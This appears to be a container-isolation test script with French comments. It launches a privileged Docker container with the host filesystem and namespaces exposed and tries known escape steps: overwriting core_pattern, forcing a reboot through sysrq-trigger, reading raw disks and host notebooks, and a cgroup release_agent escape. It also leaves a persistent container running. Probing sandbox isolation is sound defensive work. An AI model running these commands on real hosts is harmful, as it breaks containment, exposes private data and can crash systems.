# exercise: 02
# verdict: failed conteneur
# never prints: PRIS
# Le moteur du poste donne tout ce qu'il a : ce n'est que le poste.
docker run --rm --privileged --pid=host --network=host --ipc=host --uts=host -v /:/hote busybox sh -c '
  echo {MARQUE} > /hote/proc/sys/kernel/core_pattern && echo "PRIS : core_pattern"
  echo b > /hote/proc/sysrq-trigger && echo "PRIS : sysrq"
  ls /hote/work /hote/home/* /hote/root/labs 2> /dev/null | grep ipynb && echo "PRIS : carnets"
  chroot /proc/1/root true && echo "PRIS : racine de pid 1"
  hostname {MARQUE} && echo "nom du poste changé, pas plus"
  for d in /dev/sd? /dev/vd? /dev/nvme*; do [ -b $d ] && head -c 1 $d > /dev/null && echo "PRIS : $d"; done
  mount -t cgroup -o memory rien /mnt && echo /tmp/{MARQUE} > /mnt/release_agent && echo "PRIS : release_agent"
  true' 2> /dev/null
docker run --rm --device /dev/mem --cap-add ALL --security-opt seccomp=unconfined busybox true 2> /dev/null && echo "PRIS : /dev/mem"
docker run -d --restart=always --name {MARQUE} busybox sleep 1000000 > /dev/null
